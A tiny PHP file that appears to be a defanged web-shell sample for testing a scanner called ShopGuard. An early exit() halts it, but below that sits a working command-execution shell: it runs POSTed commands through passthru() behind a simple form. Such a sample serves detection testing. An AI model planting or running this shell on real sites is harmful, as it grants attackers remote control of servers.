<?php /* ShopGuard test sample, DEFANGED: shape of a real family, payload removed. Never deploy. */ exit('defanged'); ?>
<?php
if (!empty($_POST['cmd'])) { echo '<pre>'; passthru($_POST['cmd']); }
?>
<form method=post><input name=cmd value="uname -a"><input type=submit value=whoami></form>
